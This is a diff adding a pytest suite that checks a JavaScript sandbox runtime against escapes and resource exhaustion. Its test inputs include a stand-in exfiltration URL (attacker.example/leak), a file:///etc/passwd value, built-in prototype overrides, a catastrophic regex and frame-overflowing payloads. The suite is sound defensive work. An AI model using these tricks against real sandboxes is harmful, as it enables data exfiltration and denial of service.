@@ -1,0 +1,506 @@
+"""An attack sweep, layer by layer: cases the rest of ``tests/sandbox`` does not cover.
+
+Each test says in a comment what protection it guards; each fails if that protection is removed.
+
+* realm: a cell that replaces built-ins the prelude would otherwise consult while it checks what
+  leaves the isolate (``Array.prototype[Symbol.iterator]`` through destructuring,
+  ``String.prototype`` methods, ``RegExp.prototype.exec``, the ``Map.prototype.size`` getter)
+  must not get an unchecked item out, nor lift a per-cell limit;
+* resources: code that never yields (a catastrophic regular expression, endless microtasks) is
+  still stopped by ``terminate``; messages too large for a frame (escaped text, a huge thrown
+  string, a huge notification) end only their cell, with the spec's outcome, not the engine;
+* the engine message layer: a forged media URL that is not a ``data:`` URL, an engine that
+  announces its exit and stays, out-of-range numbers and messages after a cell's end;
+* the host's health: tool inputs a slow tool has not answered are bounded per session.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from codemode.protocol import (
+    CellId,
+    ExecuteRequest,
+    InputImage,
+    InputText,
+    Result,
+    RuntimeResponse,
+    Terminated,
+    Yielded,
+)
+from codemode.protocol.types import ImageDetail
+from codemode.runtime import LocalSession, LocalSessionProvider
+from codemode.runtime import cell as cell_module
+from codemode.runtime import engine as engine_module
+from codemode.runtime.cell import MAX_BUFFERED_OUTPUT_CHARS
+from tests.contract.delegate import FIXTURE_TOOLS, RecordingDelegate
+from tests.runtime.test_engine_messages import wired
+from tests.wire import frame
+
+pytestmark = pytest.mark.timeout(30)
+
+AAA = "data:image/png;base64,AAA"
+REMOTE = "https://attacker.example/leak?d=secret"
+
+
+@pytest.fixture
+async def provider() -> AsyncIterator[LocalSessionProvider]:
+    async with LocalSessionProvider() as instance:
+        yield instance
+
+
+async def start(
+    session: LocalSession, source: str, yield_ms: int = 10_000
+) -> tuple[CellId, RuntimeResponse]:
+    started = await session.execute(
+        ExecuteRequest(
+            tool_call_id="call",
+            source=source,
+            enabled_tools=list(FIXTURE_TOOLS),
+            yield_time_ms=yield_ms,
+        )
+    )
+    return started.cell_id, await started.initial_response()
+
+
+async def run(session: LocalSession, source: str) -> Result:
+    _, response = await start(session, source)
+    assert isinstance(response, Result), response
+    return response
+
+
+def texts(response: RuntimeResponse) -> list[str]:
+    return [item.text for item in response.content_items if isinstance(item, InputText)]
+
+
+# -- realm: the prelude's checks cannot be subverted -------------------------------------------------
+
+
+async def test_destructuring_iterator_cannot_forge_an_image_item(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: prelude.js reads imageItem()'s [url, detail] by index, not by destructuring (which
+    # runs the cell's Array.prototype[Symbol.iterator]). Without it the cell's iterator picks the
+    # URL and detail sent out after every check: a remote URL (an exfiltration channel the
+    # model's client may fetch), or a detail Python refuses as a breach, killing the engine.
+    session = await provider.create_session(RecordingDelegate())
+    result = await run(
+        session,
+        f"""
+        let forged = [{json.dumps(REMOTE)}, 'low'];
+        Array.prototype[Symbol.iterator] = function* () {{ yield forged[0]; yield forged[1]; }};
+        image({json.dumps(AAA)}, 'low');
+        generatedImage({{image_url: {json.dumps(AAA)}}});
+        forged = ['data:image/png;base64,BBB', 'huge'];
+        image({json.dumps(AAA)}, 'original');
+        text('end');
+        """,
+    )
+    assert result.error_text is None, result.error_text
+    assert result.content_items == [
+        InputImage(AAA, ImageDetail.LOW),
+        InputImage(AAA, ImageDetail.HIGH),
+        InputImage(AAA, ImageDetail.ORIGINAL),
+        InputText("end"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "String.prototype.toLowerCase = function () { return 'data'; };",
+        "String.prototype.slice = function () { return 'data'; };",
+        "String.prototype.indexOf = function () { return -1; };",
+    ],
+)
+async def test_string_methods_cannot_pass_a_remote_url(
+    provider: LocalSessionProvider, override: str
+) -> None:
+    # Guards: the prelude's scheme check (schemeOf) calls captured String methods. With the live
+    # String.prototype ones, a cell makes `https:` (or any scheme) look like `data:`.
+    session = await provider.create_session(RecordingDelegate())
+    result = await run(
+        session,
+        override
+        + f"""
+        for (const f of [() => image({json.dumps(REMOTE)}), () => audio('https://a.example/x.mp3'),
+                         () => image({{image_url: 'ftp://a.example/x.png'}})]) {{
+          try {{ f(); text('sent'); }} catch (e) {{ text(e); }}
+        }}
+        """,
+    )
+    assert result.error_text is None, result.error_text
+    assert [item for item in result.content_items if not isinstance(item, InputText)] == []
+    assert texts(result) == [
+        "Tool call failed: remote image URLs are not supported in tool outputs. "
+        "Pass a base64 data URI instead",
+        "Tool call failed: invalid audio output. Pass a base64 data URI instead",
+        "Tool call failed: invalid image output. Pass a base64 data URI instead",
+    ]
+
+
+async def test_regexp_exec_cannot_unblank_a_notification(provider: LocalSessionProvider) -> None:
+    # Guards: the prelude tests its regular expressions with the captured RegExp.prototype.exec
+    # (RegExp.prototype.test would look up the cell's `exec`): a blank notification stays refused.
+    delegate = RecordingDelegate()
+    session = await provider.create_session(delegate)
+    result = await run(
+        session,
+        "RegExp.prototype.exec = function () { return null; };\n"
+        "try { notify('   '); text('sent'); } catch (e) { text(e); }",
+    )
+    assert texts(result) == ["notify expects non-empty text"]
+    assert delegate.notifications == []
+
+
+async def test_map_size_cannot_lift_the_per_cell_limits(provider: LocalSessionProvider) -> None:
+    # Guards: the prelude reads the size of its Maps with the captured Map.prototype.size getter.
+    # With the live getter a cell returns 0 and its 10,000 timers / 4,096 unsettled tool calls are
+    # unbounded (the engine's main thread then holds every timer).
+    session = await provider.create_session(RecordingDelegate())
+    result = await run(
+        session,
+        """
+        Object.defineProperty(Map.prototype, 'size', {get() { return 0; }});
+        try { for (let i = 0; i < 10001; i++) setTimeout(() => {}, 1e9); text('no limit'); }
+        catch (e) { text(e); }
+        let refused = 0;
+        for (let i = 0; i < 4100; i++) {
+          tools.block({}).catch((e) => { if (String(e).startsWith('too many pending')) refused++; });
+        }
+        await null; await null;
+        text('refused ' + refused);
+        """,
+    )
+    assert texts(result) == [
+        "setTimeout exceeded the limit of 10000 pending timers",
+        "refused 4",
+    ], result.error_text
+
+
+# -- resources: what never yields is still stopped ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "/^(a+)+$/.test('a'.repeat(64) + 'b');",  # catastrophic backtracking, in native code
+        "const f = () => Promise.resolve().then(f); f(); text('body done');",  # after the body
+        "for (;;) await null;",  # a body that only ever awaits settled values
+        "const f = () => { try { f(); } catch (e) { f(); } }; f();",  # exponential overflow loop
+    ],
+    ids=["regex", "microtasks_after_body", "await_loop", "stack_overflow_loop"],
+)
+async def test_code_that_never_yields_is_terminated(
+    provider: LocalSessionProvider, source: str
+) -> None:
+    # Guards: terminate disposes the cell's isolate (host.js terminate), which stops V8 inside a
+    # regular expression or a microtask checkpoint; the session's next cell runs.
+    session = await provider.create_session(RecordingDelegate())
+    cell_id, response = await start(session, source, yield_ms=200)
+    assert isinstance(response, Yielded), response
+    outcome = await asyncio.wait_for(session.terminate(cell_id), 5)
+    assert isinstance(outcome.response, Terminated), outcome
+    after = await run(session, "text('alive')")
+    assert texts(after) == ["alive"]
+
+
+# -- resources: messages too large for one frame end only their cell ------------------------------
+
+
+async def parked(session: LocalSession) -> CellId:
+    cell_id, response = await start(session, "text('parked'); await new Promise(() => {});", 0)
+    assert isinstance(response, Yielded)
+    return cell_id
+
+
+async def assert_engine_survived(session: LocalSession, pid: int | None, parked_id: CellId) -> None:
+    engine = session.engine
+    assert engine is not None and engine.pid == pid, "the engine process was replaced"
+    outcome = await asyncio.wait_for(session.terminate(parked_id), 5)
+    assert isinstance(outcome.response, Terminated), outcome
+
+
+async def test_an_item_that_escapes_past_the_frame_cap_ends_only_its_cell(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: host.js cuts an item longer than a frame can carry once escaped (50 M control
+    # characters are 300 MB of JSON, over Python's 256 MiB frame cap: a breach that killed the
+    # engine and every cell in it). Cut, it still ends its cell with the spec's output limit.
+    session = await provider.create_session(RecordingDelegate())
+    parked_id = await parked(session)
+    pid = session.engine.pid if session.engine is not None else None
+    # A 3 MB item just before it (host.js sends a large message alone in its frame).
+    source = (
+        "const a = 'y'.repeat(3e6), b = '\\u0001'.repeat(50e6); a.at(-1); b.at(-1);\n"
+        "text(a); text(b); text('after')"
+    )
+    result = await run(session, source)
+    assert result.error_text == (
+        f"exec cell output exceeds the limit of {MAX_BUFFERED_OUTPUT_CHARS} characters"
+    )
+    await assert_engine_survived(session, pid, parked_id)
+
+
+async def test_a_huge_thrown_string_is_cut_and_the_engine_survives(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: host.js cuts an error text as Python does (16 Mi characters and a note) before it
+    # sends it: 2^28 characters were a frame over the cap, i.e. a breach and a dead engine.
+    session = await provider.create_session(RecordingDelegate())
+    parked_id = await parked(session)
+    pid = session.engine.pid if session.engine is not None else None
+    result = await run(session, "throw 'x'.repeat(2 ** 28)")
+    cut = cell_module.MAX_ERROR_TEXT_CHARS
+    assert result.error_text == "x" * cut + f"\n… (error text cut: {2**28} characters in all)"
+    await assert_engine_survived(session, pid, parked_id)
+
+
+async def test_a_notification_too_large_for_a_frame_is_dropped(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: host.js drops a notification whose JSON would pass the frame cap (45 M control
+    # characters: 270 MB); the cell goes on, as after any failed delivery.
+    delegate = RecordingDelegate()
+    session = await provider.create_session(delegate)
+    parked_id = await parked(session)
+    pid = session.engine.pid if session.engine is not None else None
+    result = await run(session, "notify('\\u0001'.repeat(45e6)); notify('small'); text('went on')")
+    assert result.error_text is None, result.error_text[:200]
+    assert texts(result) == ["went on"]
+    assert [text for _, _, text in delegate.notifications] == ["small"]
+    await assert_engine_survived(session, pid, parked_id)
+
+
+async def test_a_tool_input_too_large_for_a_frame_is_refused_to_the_cell(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: host.js refuses (as the call's rejection) a tool input within the prelude's
+    # 128 Mi-character limit whose JSON would still pass the frame cap: 90 M CJK characters are
+    # 270 MB of UTF-8, which was a breach that killed the engine and every cell in it.
+    session = await provider.create_session(RecordingDelegate())
+    parked_id = await parked(session)
+    pid = session.engine.pid if session.engine is not None else None
+    result = await run(
+        session,
+        "text(await tools.echo({s: '\u4e2d'.repeat(90e6)}).then(() => 'sent', (e) => e))",
+    )
+    assert texts(result) == ["tool input of 90000008 characters is too large to send"]
+    await assert_engine_survived(session, pid, parked_id)
+
+
+# -- the host's health: unsettled tool inputs ---------------------------------------------------------
+
+
+async def test_unsettled_tool_inputs_of_a_session_are_bounded(
+    provider: LocalSessionProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Guards: cell.py counts the characters of the inputs (and notification texts) a session's
+    # delegate holds unsettled, and refuses a call past MAX_PENDING_INPUT_CHARS. Without it,
+    # 1,024 calls of 128 Mi characters to a slow tool sit in this process at once (measured:
+    # 40 calls of 20 M characters grew the host by 800 MB). Lowered here to keep the test fast.
+    monkeypatch.setattr(cell_module, "MAX_PENDING_INPUT_CHARS", 1_000_000)
+    delegate = RecordingDelegate()
+    session = await provider.create_session(delegate)
+    result = await run(
+        session,
+        """
+        const s = 'x'.repeat(400000);
+        const held = [tools.block({s}), tools.block({s})];
+        const third = await tools.block({s}).then(() => 'sent', (e) => e);
+        text(third);
+        text(await tools.echo({small: true}).then((r) => JSON.stringify(r), (e) => e));
+        """,
+    )
+    assert texts(result)[0].startswith("tool call refused: the unsettled tool inputs"), texts(
+        result
+    )
+    assert texts(result)[1] == '{"small":true}'
+    assert len([c for c in delegate.calls if c.tool_name.name == "block"]) == 2
+    # The cell ended: its calls were cancelled and their inputs released.
+    for _ in range(100):
+        if session.pending_input_chars == 0:
+            break
+        await asyncio.sleep(0.02)
+    assert session.pending_input_chars == 0
+    again = await run(
+        session,
+        "const s = 'x'.repeat(400000); tools.block({s}); tools.block({s}); "
+        "text(await tools.block({s}).then(() => 'sent', (e) => 'refused'))",
+    )
+    assert texts(again) == ["refused"]
+
+
+# -- the engine message layer: forged frames ----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        {"t": "item", "cell": 1, "type": "input_image", "value": REMOTE, "detail": "low"},
+        {"t": "item", "cell": 1, "type": "input_audio", "value": "file:///etc/passwd"},
+        {"t": "item", "cell": 1, "type": "input_image", "value": "javascript:x", "detail": "high"},
+    ],
+)
+async def test_a_forged_media_item_that_is_not_a_data_url_is_a_breach(
+    message: dict[str, Any],
+) -> None:
+    # Guards: engine.py refuses image and audio items whose URL is not a data: URL (the prelude
+    # and host.js send no other); a compromised engine cannot hand the model's client a URL.
+    engine, protocol, events, transport = wired()
+    protocol.data_received(frame(json.dumps([message]).encode()))
+    assert transport.killed
+    assert events.seen == [("exited", "crashed")]
+    assert engine.live_cells == 0
+
+
+async def test_an_engine_that_announces_its_exit_and_stays_is_stopped(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # Guards: engine.py stops an engine that sent `exiting` and did not exit within
+    # EXITING_GRACE. Without it `start()` (which waits for the announced exit) waits forever: a
+    # shared engine then hangs every session's next cell.
+    monkeypatch.setattr(engine_module, "EXITING_GRACE", 0.05)
+    engine, protocol, events, transport = wired()
+    protocol.data_received(frame(b'[{"t":"exiting"}]'))
+    assert not transport.killed and not engine.running
+    await asyncio.sleep(0.3)
+    assert transport.killed
+    assert events.seen == [("exited", "crashed")]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'[{"t":"call","cell":1,"id":"x","tool":1e400,"input":null}]',
+        b'[{"t":"call","cell":1,"id":"x","tool":1.5,"input":null}]',
+        b'[{"t":"done","cell":1,"error":null,"writes":"[[1,2]]"}]',  # a key that is no string
+        b'[{"t":"done","cell":1,"error":null,"writes":"{\\"k\\":1}"}]',  # not a list
+        b'[{"t":"item","cell":1,"type":"input_image","value":"data:x"}]',  # image without detail
+        b"[" + b'{"t":"ready"},' * 1000 + b'{"t":"bogus"}]',  # bad message after many good
+        # Guards: engine.py bounds a call id (each unsettled call keeps it in this process, and
+        # the session's input budget counts inputs only) and an exit detail (it is logged).
+        json.dumps([{"t": "call", "cell": 1, "id": "t" * 65, "tool": 0, "input": None}]).encode(),
+        json.dumps(
+            [{"t": "exited", "cell": 1, "reason": "crashed", "detail": "d" * 70000}]
+        ).encode(),
+    ],
+)
+async def test_out_of_range_and_malformed_fields_end_only_the_engine(body: bytes) -> None:
+    # Already safe (untested): numbers out of range, writes of the wrong shape and a bad message
+    # deep in a batch are breaches handled by ending the engine, never an exception in Python.
+    engine, protocol, events, transport = wired()
+    protocol.data_received(frame(body))
+    assert transport.killed
+    assert events.seen[-1] == ("exited", "crashed")
+    assert engine.live_cells == 0
+
+
+async def test_integers_beyond_64_bits_are_harmless() -> None:
+    # Already safe (untested): msgspec decodes integers of any size; a turn or a cell number far
+    # beyond 64 bits reaches no arithmetic that could fail (an unknown cell is ignored).
+    engine, protocol, events, transport = wired()
+    huge = 123456789012345678901234567890
+    body = json.dumps([{"t": "yield", "cell": 1, "turn": huge}, {"t": "started", "cell": -huge}])
+    protocol.data_received(frame(body.encode()))
+    assert not transport.killed
+    assert events.seen == [("yield", huge)]
+    assert engine.live_cells == 1
+
+
+async def test_messages_after_a_cells_end_are_ignored() -> None:
+    # Already safe (untested): an engine that keeps talking about a cell after its `exited`
+    # (items, calls, a second end) reaches no handler of that cell.
+    engine, protocol, events, transport = wired()
+    batch = [
+        {"t": "done", "cell": 1, "error": None, "writes": "[]"},
+        {"t": "exited", "cell": 1, "reason": "stopped"},
+        {"t": "item", "cell": 1, "type": "input_text", "value": "late"},
+        {"t": "call", "cell": 1, "id": "tool-9", "tool": 0, "input": None},
+        {"t": "done", "cell": 1, "error": "again", "writes": "[]"},
+        {"t": "exited", "cell": 1, "reason": "crashed"},
+    ]
+    protocol.data_received(frame(json.dumps(batch).encode()))
+    assert not transport.killed
+    assert events.seen == [("done", (None, [], None)), ("exited", "stopped")]
+    assert engine.live_cells == 0
+
+
+async def test_items_after_a_termination_began_stay_within_the_buffer_bound(
+    provider: LocalSessionProvider,
+) -> None:
+    # Guards: cell.py keeps taking items while a cell terminates (they belong to its
+    # `Terminated`) only up to the buffer bound; an engine that keeps sending cannot grow the
+    # buffer of a terminating cell without end.
+    session = await provider.create_session(RecordingDelegate())
+    cell_id = await parked(session)
+    cell = session._cells[cell_id]
+    cell._state = cell_module._State.TERMINATING
+    chunk = "x" * (1024 * 1024)
+    try:
+        for _ in range(40):
+            cell.on_item(InputText(chunk))
+        buffered = cell._buffered
+    finally:
+        cell._state = cell_module._State.RUNNING
+    assert buffered <= MAX_BUFFERED_OUTPUT_CHARS + len(chunk) + cell_module.ITEM_OVERHEAD_CHARS
+    outcome = await asyncio.wait_for(session.terminate(cell_id), 5)
+    assert isinstance(outcome.response, Terminated)
+
+
+async def test_a_notification_past_the_session_budget_is_dropped(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # Guards: cell.py counts unsettled notification texts in the same session budget as tool
+    # inputs (a delegate slow to deliver holds each one): past it, a notification is dropped
+    # (logged), and the cell goes on, as after any failed delivery.
+    monkeypatch.setattr(cell_module, "MAX_PENDING_INPUT_CHARS", 1_000_000)
+    async with LocalSessionProvider() as provider:
+        delegate = RecordingDelegate(notify_mode="delay", notify_delay=0.3)
+        session = await provider.create_session(delegate)
+        result = await run(
+            session,
+            "notify('a'.repeat(600000)); notify('b'.repeat(600000)); "
+            "await new Promise((r) => setTimeout(r, 50)); text('went on')",
+        )
+        assert texts(result) == ["went on"]
+        assert [text[0] for _, _, text in delegate.notifications] == ["a"]
+
+
+async def test_the_engine_of_a_session_runs_confined_with_nothing_of_ours(
+    provider: LocalSessionProvider, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Guards, on the spawn path sessions really use (engine.py): the minimal environment (a
+    # secret of this process does not reach the engine), `/` as working directory, Node's
+    # permission model, and the OS layers this machine has (no_new_privs and seccomp mode 2).
+    from codemode.runtime import confinement
+
+    monkeypatch.setenv("CODEMODE_SWEEP_SECRET", "sweep-secret-token")
+    session = await provider.create_session(RecordingDelegate())
+    assert texts(await run(session, "text('up')")) == ["up"]
+    engine = session.engine
+    assert engine is not None and engine.pid is not None
+    proc = f"/proc/{engine.pid}"
+    try:
+        environ = Path(f"{proc}/environ").read_bytes()
+        cmdline = Path(f"{proc}/cmdline").read_bytes().split(b"\0")
+        status = Path(f"{proc}/status").read_text()
+        cwd = os.readlink(f"{proc}/cwd")
+    except OSError as error:
+        pytest.skip(f"cannot inspect the engine process: {error}")
+    assert b"sweep-secret-token" not in environ
+    assert b"CODEMODE_SWEEP_SECRET" not in environ
+    assert cwd == "/"
+    assert b"--permission" in cmdline
+    report = confinement.probe()
+    if report.seccomp or report.landlock:
+        assert "NoNewPrivs:\t1" in status
+    if report.seccomp:
+        assert "Seccomp:\t2" in status
